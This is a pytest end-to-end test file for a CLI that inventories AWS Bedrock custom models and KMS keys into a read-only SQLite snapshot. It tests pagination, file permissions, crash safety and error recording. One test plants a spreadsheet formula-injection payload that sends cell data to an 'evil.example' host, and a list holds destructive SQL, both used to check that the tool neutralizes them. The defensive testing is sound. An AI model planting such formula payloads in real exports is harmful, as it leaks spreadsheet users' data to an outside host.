"""End-to-end tests: the CLI runs as a subprocess against a moto server over HTTP.

The estate is seeded through the server (``bedrock_sql.estate`` nudges moto's backends,
which the in-process ThreadedMotoServer shares); the CLI is a separate process that only
sees HTTP. Where a test needs AWS to misbehave (deny a call, stall a call) the CLI talks
to the server through :class:`tests.e2e_helpers.AwsProxy`.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import signal
import socket
import sqlite3
import stat
import subprocess
import threading
import time
from pathlib import Path

import boto3
import pytest

from bedrock_sql.estate import create_key, seed_models

from e2e_helpers import (
    ACCOUNT_ID,
    AwsProxy,
    AwsRequest,
    cli_env,
    deny,
    describe,
    run_cli,
    start_cli,
)

CLOSED_PORT_URL = "http://127.0.0.1:9"  # discard: nothing listens, connections are refused


# --------------------------------------------------------------------------- helpers


def read_db(path: Path) -> sqlite3.Connection:
    """Open a snapshot read-only with the stdlib (independent of bedrock-sql's reader)."""
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def partials(directory: Path, db_name: str = "bedrock.db") -> list[Path]:
    return sorted(directory.glob(f".{db_name}.*.partial"))


def query_json(sql: str, *, cwd: Path, env: dict, extra: tuple[str, ...] = ()) -> list[dict]:
    result = run_cli(["query", "--output", "json", *extra, sql], cwd=cwd, env=env)
    assert result.returncode == 0, describe(result)
    return json.loads(result.stdout)


def collect_ok(cwd: Path, env: dict, *args: str) -> subprocess.CompletedProcess:
    result = run_cli(["collect", *args], cwd=cwd, env=env, timeout=120)
    assert result.returncode == 0, describe(result)
    return result


def snapshot_state(path: Path) -> tuple[str, dict[str, int]]:
    """(run_id, row count per table) of a snapshot, read with the stdlib."""
    with read_db(path) as db:
        (run_id,) = db.execute("SELECT run_id FROM bedrock_sql_runs").fetchone()
        names = [r[0] for r in db.execute("SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY name")]
        counts = {name: db.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] for name in names}
    return run_id, counts


def server_aliases(session: boto3.Session, moto_url: str, regions) -> set[tuple[str, str]]:
    """(alias name, region) of every alias the server lists: the ground truth for aws_kms_alias."""
    aliases = set()
    for region in regions:
        kms = session.client("kms", region_name=region, endpoint_url=moto_url)
        for page in kms.get_paginator("list_aliases").paginate():
            aliases |= {(a["AliasName"], region) for a in page["Aliases"]}
    return aliases


# --------------------------------------------------------------------------- 1. collect + query


def test_collect_three_regions_with_pagination_then_query_exact_estate(
    server_session: boto3.Session, moto_url: str, tmp_path: Path
) -> None:
    regions = ("us-east-1", "eu-west-1", "ap-northeast-1")
    s = server_session
    cmk_use1 = create_key(s, "us-east-1", alias="alias/bedrock/models", endpoint_url=moto_url)
    aws_euw1 = create_key(s, "eu-west-1", manager="AWS", description="AWS managed", endpoint_url=moto_url)
    disabled_euw1 = create_key(s, "eu-west-1", state="Disabled", endpoint_url=moto_url)
    cmk_apne1 = create_key(s, "ap-northeast-1", rotation=True, endpoint_url=moto_url)
    models = [
        # 130 in one region: more than one ListCustomModels page (moto pages at 100).
        *seed_models(s, "us-east-1", 100, key_arn=cmk_use1.arn, prefix="cmk", endpoint_url=moto_url),
        *seed_models(s, "us-east-1", 30, key_arn=None, prefix="owned", endpoint_url=moto_url),
        *seed_models(s, "eu-west-1", 3, key_arn=aws_euw1.arn, prefix="awsmanaged", endpoint_url=moto_url),
        *seed_models(s, "eu-west-1", 2, key_arn=None, prefix="owned", endpoint_url=moto_url),
        *seed_models(s, "ap-northeast-1", 2, key_arn=cmk_apne1.arn, prefix="cmk", endpoint_url=moto_url),
        *seed_models(s, "ap-northeast-1", 1, key_arn=None, prefix="owned", endpoint_url=moto_url),
    ]
    keys = [cmk_use1, aws_euw1, disabled_euw1, cmk_apne1]
    aliases = server_aliases(s, moto_url, regions)

    with AwsProxy(moto_url) as proxy:  # transparent; it lets us see the pagination happen
        env = cli_env(proxy.url)
        args = [a for r in regions for a in ("--region", r)]
        result = collect_ok(tmp_path, env, "--kms-keys", "all", *args)  # every key: one no model names
        list_calls = [r for r in proxy.requests if r.operation == "ListCustomModels"]

    # ListCustomModels really paged in us-east-1 (a follow-up request with nextToken).
    use1_lists = [r for r in list_calls if r.region == "us-east-1"]
    assert len(use1_lists) >= 2 and any("nextToken" in r.query for r in use1_lists), use1_lists
    assert {r.region for r in list_calls} == set(regions)

    # Summary on stderr, nothing on stdout; no progress bar when stderr is not a terminal.
    assert result.stdout == ""
    assert f"Collected {len(models)} aws_bedrock_custom_model" in result.stderr, result.stderr
    assert "1 account(s) and 3 region(s)" in result.stderr, result.stderr
    assert "Partial" not in result.stderr

    env = cli_env(moto_url)
    rows = query_json("SELECT arn, model_kms_key_arn, region FROM aws_bedrock_custom_model", cwd=tmp_path, env=env)
    assert len(rows) == len(models)  # no duplicates across pages
    assert {(r["arn"], r["model_kms_key_arn"], r["region"]) for r in rows} == {
        (m.model_arn, m.kms_key_arn, m.region) for m in models
    }

    rows = query_json("SELECT arn, key_manager, key_state, region FROM aws_kms_key", cwd=tmp_path, env=env)
    assert sorted((r["arn"], r["key_manager"], r["key_state"], r["region"]) for r in rows) == sorted(
        (k.arn, k.key_manager, k.key_state, k.region) for k in keys
    )

    rows = query_json(
        "SELECT region, count(*) AS jobs, sum(status = 'Completed') AS completed "
        "FROM aws_bedrock_model_customization_job GROUP BY region",
        cwd=tmp_path,
        env=env,
    )
    expected_jobs = {r: sum(m.region == r for m in models) for r in regions}
    assert {r["region"]: (r["jobs"], r["completed"]) for r in rows} == {r: (n, n) for r, n in expected_jobs.items()}

    rows = query_json("SELECT alias_name, region FROM aws_kms_alias", cwd=tmp_path, env=env)
    assert {(r["alias_name"], r["region"]) for r in rows} == aliases

    tables = query_json_tables(tmp_path, env)
    assert tables == {
        "aws_bedrock_custom_model": len(models),
        "aws_bedrock_model_customization_job": len(models),
        "aws_kms_key": len(keys),
        "aws_kms_alias": len(aliases),
        # no imported models, copies, throughput or deployments in this estate
        "aws_bedrock_imported_model": 0,
        "aws_bedrock_model_import_job": 0,
        "aws_bedrock_model_copy_job": 0,
        "aws_bedrock_provisioned_model_throughput": 0,
        "aws_bedrock_custom_model_deployment": 0,
        "bedrock_sql_errors": 0,
        "bedrock_sql_runs": 1,
    }

    (run,) = query_json("SELECT status, accounts, regions FROM bedrock_sql_runs", cwd=tmp_path, env=env)
    assert run["status"] == "complete"
    assert json.loads(run["accounts"]) == [ACCOUNT_ID]
    assert json.loads(run["regions"]) == sorted(regions)


def query_json_tables(cwd: Path, env: dict) -> dict[str, int]:
    result = run_cli(["tables", "--output", "json"], cwd=cwd, env=env)
    assert result.returncode == 0, describe(result)
    return {row["table"]: int(row["rows"]) for row in json.loads(result.stdout)}


# --------------------------------------------------------------------------- 2. 0600, read-only


WRITES = (
    "DELETE FROM aws_kms_key",
    "UPDATE aws_bedrock_custom_model SET model_kms_key_arn = NULL",
    "DROP TABLE bedrock_sql_runs",
    "ATTACH DATABASE 'evil.db' AS evil",
    "VACUUM INTO 'copy.db'",
    "PRAGMA journal_mode = WAL",
)


def test_snapshot_is_private_and_query_cannot_modify_it(
    server_session: boto3.Session, moto_url: str, tmp_path: Path
) -> None:
    key = create_key(server_session, "us-east-1", endpoint_url=moto_url)
    seed_models(server_session, "us-east-1", 3, key_arn=key.arn, endpoint_url=moto_url)
    env = cli_env(moto_url)
    db = tmp_path / "bedrock.db"

    # Created 0600 even when the umask would let everyone read it.
    result = run_cli(["collect", "--region", "us-east-1"], cwd=tmp_path, env=env, umask=0)
    assert result.returncode == 0, describe(result)
    assert stat.S_IMODE(db.stat().st_mode) == 0o600

    # A new snapshot replacing a world-readable one is 0600 again.
    db.chmod(0o644)
    result = run_cli(["collect", "--region", "us-east-1"], cwd=tmp_path, env=env, umask=0)
    assert result.returncode == 0, describe(result)
    assert stat.S_IMODE(db.stat().st_mode) == 0o600

    before = sha256(db)
    mtime = db.stat().st_mtime_ns
    listing = sorted(p.name for p in tmp_path.iterdir())
    for sql in WRITES:
        result = run_cli(["query", sql], cwd=tmp_path, env=env)
        assert result.returncode == 2, f"{sql}: {describe(result)}"
        assert result.stdout == "", sql
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith("bedrock-sql: error: "), f"{sql}: {result.stderr!r}"
        assert "Traceback" not in result.stderr
    assert sha256(db) == before
    assert db.stat().st_mtime_ns == mtime
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == listing  # no evil.db, copy.db, -wal, -journal

    rows = query_json("SELECT count(*) AS n FROM aws_kms_key", cwd=tmp_path, env=env)
    assert rows == [{"n": 1}]


# --------------------------------------------------------------------------- 3. kill -9


class StallAfter:
    """A proxy rule that holds every ``operation`` request after the first ``after``.

    The collect cannot finish while requests are held, so a kill is certain to land
    mid-collect; ``reached`` is set when the first request is held.
    """

    def __init__(self, operation: str, after: int):
        self.operation = operation
        self.after = after
        self.seen = 0
        self.lock = threading.Lock()
        self.reached = threading.Event()
        self.release = threading.Event()

    def __call__(self, request: AwsRequest):
        if request.operation != self.operation:
            return None
        with self.lock:
            self.seen += 1
            held = self.seen > self.after
        if held:
            self.reached.set()
            self.release.wait(30)
        return None  # then forward it as usual


def wait_for(predicate, timeout: float, what: str, interval: float = 0.01):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(interval)
    raise AssertionError(f"timed out after {timeout}s waiting for {what}")


def test_killed_collect_leaves_previous_snapshot_whole(
    server_session: boto3.Session, moto_url: str, tmp_path: Path
) -> None:
    s = server_session
    env = cli_env(moto_url)
    db = tmp_path / "bedrock.db"
    key = create_key(s, "us-east-1", endpoint_url=moto_url)
    seed_models(s, "us-east-1", 5, key_arn=key.arn, prefix="first", endpoint_url=moto_url)
    collect_ok(tmp_path, env, "--region", "us-east-1")
    run_a, counts_a = snapshot_state(db)
    assert counts_a["aws_bedrock_custom_model"] == 5
    bytes_a = sha256(db)

    seed_models(s, "us-east-1", 60, key_arn=None, prefix="second", endpoint_url=moto_url)

    stall = StallAfter("GetCustomModel", after=10)
    with AwsProxy(moto_url, stall) as proxy:
        process = start_cli(["collect", "--region", "us-east-1", "--max-workers", "2"], cwd=tmp_path, env=cli_env(proxy.url))
        try:
            expected_partial = tmp_path / f".bedrock.db.{socket.gethostname()}.{process.pid}.partial"
            wait_for(lambda: expected_partial.exists() or process.poll() is not None, 30, "the partial file")
            assert stall.reached.wait(30), "the collect never got to its 11th GetCustomModel"
            # The collect is mid-way (10 models fetched, the rest held) and writing its partial.
            assert process.poll() is None, f"the collect ended before the kill: {process.communicate()}"
            assert expected_partial.exists()
            os.kill(process.pid, signal.SIGKILL)
            process.wait(timeout=10)  # reap it, so its pid is really gone
        finally:
            stall.release.set()
            if process.poll() is None:
                process.kill()
                process.wait()
            out, err = process.communicate()
    assert process.returncode == -signal.SIGKILL, (process.returncode, err)
    # The kill landed while the partial existed: a finished collect would have renamed it.
    assert partials(tmp_path) == [expected_partial]
    assert stat.S_IMODE(expected_partial.stat().st_mode) == 0o600

    # Snapshot A is untouched: same bytes, same run, same counts, and SQLite says it is sound.
    assert sha256(db) == bytes_a
    assert snapshot_state(db) == (run_a, counts_a)
    with read_db(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert query_json_tables(tmp_path, env)["aws_bedrock_custom_model"] == 5

    # The next collect succeeds, clears the dead collect's partial, and has the new estate.
    collect_ok(tmp_path, env, "--region", "us-east-1")
    assert partials(tmp_path) == []
    run_c, counts_c = snapshot_state(db)
    assert run_c != run_a
    assert counts_c["aws_bedrock_custom_model"] == 65
    assert counts_c["aws_bedrock_model_customization_job"] == 65
    with read_db(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


def test_interrupted_collect_cleans_up_and_leaves_previous_snapshot(
    server_session: boto3.Session, moto_url: str, tmp_path: Path
) -> None:
    env = cli_env(moto_url)
    db = tmp_path / "bedrock.db"
    seed_models(server_session, "us-east-1", 3, prefix="first", endpoint_url=moto_url)
    collect_ok(tmp_path, env, "--region", "us-east-1")
    bytes_a = sha256(db)
    seed_models(server_session, "us-east-1", 20, prefix="second", endpoint_url=moto_url)

    stall = StallAfter("GetCustomModel", after=5)
    with AwsProxy(moto_url, stall) as proxy:
        process = start_cli(["collect", "--region", "us-east-1"], cwd=tmp_path, env=cli_env(proxy.url))
        try:
            assert stall.reached.wait(30), "the collect never got to its 6th GetCustomModel"
            partial = tmp_path / f".bedrock.db.{socket.gethostname()}.{process.pid}.partial"
            assert process.poll() is None and partial.exists()
            process.send_signal(signal.SIGINT)  # Ctrl-C
            # Prompt: the CLI exits while AWS calls are still held in flight.
            out, err = process.communicate(timeout=15)
        finally:
            stall.release.set()
            if process.poll() is None:
                process.kill()
                process.wait()
    assert process.returncode == 130, (process.returncode, err)
    assert "Traceback" not in err and err.strip().splitlines()[-1].startswith("bedrock-sql: "), err
    assert partials(tmp_path) == []  # an interrupted collect removes its own partial
    assert sha256(db) == bytes_a


# --------------------------------------------------------------------------- 4. live query


def test_live_query_by_arn_makes_one_get_and_no_listing(
    server_session: boto3.Session, moto_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s = server_session
    key = create_key(s, "eu-west-1", endpoint_url=moto_url)
    seed_models(s, "us-east-1", 4, prefix="use1", endpoint_url=moto_url)
    target = seed_models(s, "eu-west-1", 3, key_arn=key.arn, prefix="euw1", endpoint_url=moto_url)[1]
    sql = (
        "SELECT arn, model_name, region, model_kms_key_arn FROM aws_bedrock_custom_model "
        f"WHERE arn = '{target.model_arn}'"
    )

    # The CLI, as a subprocess; the proxy counts what crossed the wire.
    with AwsProxy(moto_url) as proxy:
        result = run_cli(
            ["query", "--live", "--region", "us-east-1", "--region", "eu-west-1", "--output", "json", sql],
            cwd=tmp_path,
            env=cli_env(proxy.url),
        )
        bedrock_calls = sorted(proxy.operations("bedrock"))
        regions = {r.region for r in proxy.requests if r.service == "bedrock"}
        kms_calls = proxy.operations("kms")
    assert result.returncode == 0, describe(result)
    assert json.loads(result.stdout) == [
        {"arn": target.model_arn, "model_name": target.model_name, "region": "eu-west-1", "model_kms_key_arn": key.arn}
    ]
    assert bedrock_calls == ["GetCustomModel", "ListTagsForResource"], bedrock_calls
    assert regions == {"eu-west-1"}
    assert kms_calls == []
    assert not (tmp_path / "bedrock.db").exists()  # --live never touches a snapshot

    # In process, through the same code path, reading the client factory's own counters.
    from bedrock_sql import sql as sql_module
    from bedrock_sql.aws import AwsOptions
    from bedrock_sql.engine import ErrorLog

    scopes = []

    def capturing_resolve_scope(options):
        scopes.append(sql_module_resolve(options))
        return scopes[-1]

    sql_module_resolve = sql_module.resolve_scope
    monkeypatch.setattr(sql_module, "resolve_scope", capturing_resolve_scope)
    errors = ErrorLog()
    options = AwsOptions(regions=("us-east-1", "eu-west-1"), endpoint_url=moto_url)
    with sql_module.live_connection(options, errors) as connection:
        rows = list(connection.execute(sql))
    assert rows == [(target.model_arn, target.model_name, "eu-west-1", key.arn)]
    assert len(errors) == 0
    (scope,) = scopes
    factory = scope.factory
    assert factory.total_calls("bedrock", "GetCustomModel") == 1
    assert factory.total_calls("bedrock", "ListCustomModels") == 0
    assert factory.calls[("bedrock", "GetCustomModel", "eu-west-1")] == 1
    assert factory.total_calls("kms") == 0


# --------------------------------------------------------------------------- 5. demo


def test_demo_runs_offline_without_credentials(tmp_path: Path) -> None:
    real = tmp_path / "bedrock.db"
    real.write_bytes(b"someone's real snapshot")
    env = cli_env(
        CLOSED_PORT_URL,
        credentials=False,
        # Anything that escaped moto would have to go through a proxy that is not there.
        HTTP_PROXY=CLOSED_PORT_URL,
        HTTPS_PROXY=CLOSED_PORT_URL,
        AWS_ENDPOINT_URL_BEDROCK=CLOSED_PORT_URL,
        AWS_ENDPOINT_URL_KMS=CLOSED_PORT_URL,
        AWS_ENDPOINT_URL_STS=CLOSED_PORT_URL,
        HOME=str(tmp_path),
    )
    env.pop("AWS_DEFAULT_REGION")
    result = run_cli(["demo"], cwd=tmp_path, env=env, timeout=120)
    assert result.returncode == 0, describe(result)
    assert "Bedrock-owned key" in result.stdout
    assert "Traceback" not in result.stderr

    demo_db = tmp_path / "bedrock-demo.db"
    assert demo_db.is_file()
    assert real.read_bytes() == b"someone's real snapshot"  # never overwritten
    assert stat.S_IMODE(demo_db.stat().st_mode) == 0o600
    with read_db(demo_db) as db:
        assert db.execute("SELECT count(*) FROM aws_bedrock_custom_model").fetchone()[0] > 0
        assert db.execute("SELECT count(*) FROM aws_bedrock_custom_model WHERE model_kms_key_arn IS NULL").fetchone()[0] > 0
        assert db.execute("SELECT status FROM bedrock_sql_runs").fetchall() == [("complete",)]
        assert db.execute("SELECT count(*) FROM bedrock_sql_errors").fetchone()[0] == 0


# --------------------------------------------------------------------------- 6. a denied region


def test_collect_with_a_denied_region_records_it_and_still_lands(
    server_session: boto3.Session, moto_url: str, tmp_path: Path
) -> None:
    s = server_session
    use1 = seed_models(s, "us-east-1", 3, endpoint_url=moto_url)
    seed_models(s, "eu-west-1", 2, endpoint_url=moto_url)

    with AwsProxy(moto_url, deny("bedrock", "ListCustomModels", "eu-west-1")) as proxy:
        # --endpoint-url beats AWS_ENDPOINT_URL (which points nowhere).
        result = run_cli(
            ["collect", "--region", "us-east-1", "--region", "eu-west-1", "--endpoint-url", proxy.url],
            cwd=tmp_path,
            env=cli_env(CLOSED_PORT_URL),
            timeout=120,
        )
        answered = [(r.region, r.operation) for r in proxy.answered]
    assert result.returncode == 2, describe(result)
    assert answered == [("eu-west-1", "ListCustomModels")]  # an AccessDenied is not retried
    assert f"{ACCOUNT_ID}/eu-west-1 aws_bedrock_custom_model: ListCustomModels: AccessDeniedException: denied" in (
        result.stderr
    ), result.stderr
    assert "Traceback" not in result.stderr

    db = tmp_path / "bedrock.db"
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    with read_db(db) as conn:
        models = conn.execute("SELECT arn, region FROM aws_bedrock_custom_model").fetchall()
        jobs = conn.execute("SELECT region, count(*) FROM aws_bedrock_model_customization_job GROUP BY region").fetchall()
        errors = conn.execute(
            "SELECT account_id, region, table_name, operation, error_code, message, resource FROM bedrock_sql_errors"
        ).fetchall()
        runs = conn.execute("SELECT status FROM bedrock_sql_runs").fetchall()
    assert set(models) == {(m.model_arn, "us-east-1") for m in use1}
    assert dict(jobs) == {"us-east-1": 3, "eu-west-1": 2}  # only the denied listing was lost
    assert errors == [
        (ACCOUNT_ID, "eu-west-1", "aws_bedrock_custom_model", "ListCustomModels", "AccessDeniedException", "denied", None)
    ]
    assert runs == [("partial",)]


# --------------------------------------------------------------------------- 7. CSV injection


def test_csv_output_neutralizes_formulas(server_session: boto3.Session, moto_url: str, tmp_path: Path) -> None:
    (model,) = seed_models(server_session, "us-east-1", 1, endpoint_url=moto_url)
    tags = {
        "note": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "plus": "+1+2",
        "at": "@SUM(1,2)",
        "owner": "ml-platform",
    }
    bedrock = server_session.client("bedrock", region_name="us-east-1", endpoint_url=moto_url)
    bedrock.tag_resource(resourceARN=model.model_arn, tags=[{"key": k, "value": v} for k, v in tags.items()])
    env = cli_env(moto_url)
    collect_ok(tmp_path, env, "--region", "us-east-1")

    result = run_cli(
        [
            "query",
            "--output",
            "csv",
            "SELECT model_name, tags ->> '$.note' AS note, tags ->> '$.plus' AS plus, "
            "tags ->> '$.at' AS at, tags ->> '$.owner' AS owner, tags FROM aws_bedrock_custom_model",
        ],
        cwd=tmp_path,
        env=env,
    )
    assert result.returncode == 0, describe(result)
    header, row = list(csv.reader(io.StringIO(result.stdout)))
    assert header == ["model_name", "note", "plus", "at", "owner", "tags"]
    cells = dict(zip(header, row))
    assert cells["note"] == "'" + tags["note"]
    assert cells["plus"] == "'" + tags["plus"]
    assert cells["at"] == "'" + tags["at"]
    assert cells["owner"] == "ml-platform"  # harmless text is left alone
    assert cells["model_name"] == model.model_name
    assert json.loads(cells["tags"]) == tags  # a JSON cell does not start a formula; kept exact


# --------------------------------------------------------------------------- check --live


def test_check_live_collects_into_a_throwaway_snapshot(server_session: boto3.Session, moto_url: str, tmp_path: Path) -> None:
    from bedrock_sql.estate import seed_demo_estate

    estate = seed_demo_estate(server_session, regions=("us-east-1", "eu-west-1"), endpoint_url=moto_url)
    env = cli_env(moto_url)
    result = run_cli(
        ["check", "--live", "--region", "us-east-1", "--region", "eu-west-1",
         "bedrock_custom_model_encrypted_with_cmk", "--output", "json"],
        cwd=tmp_path, env=env, timeout=120,
    )
    assert result.returncode == 1, describe(result)  # the estate has Bedrock-owned models: alarm
    findings = json.loads(result.stdout)
    expected = {"cmk": "ok", "disabled_key": "ok", "pending_deletion_key": "ok",
                "bedrock_owned": "alarm", "aws_managed": "alarm", "foreign_account_key": "info"}
    assert {f["resource"]: f["status"] for f in findings} == {m.model_arn: expected[m.case] for m in estate.models}
    assert "Summary: total" in result.stderr
    assert list(tmp_path.iterdir()) == []  # nothing left behind: no bedrock.db, no partial file
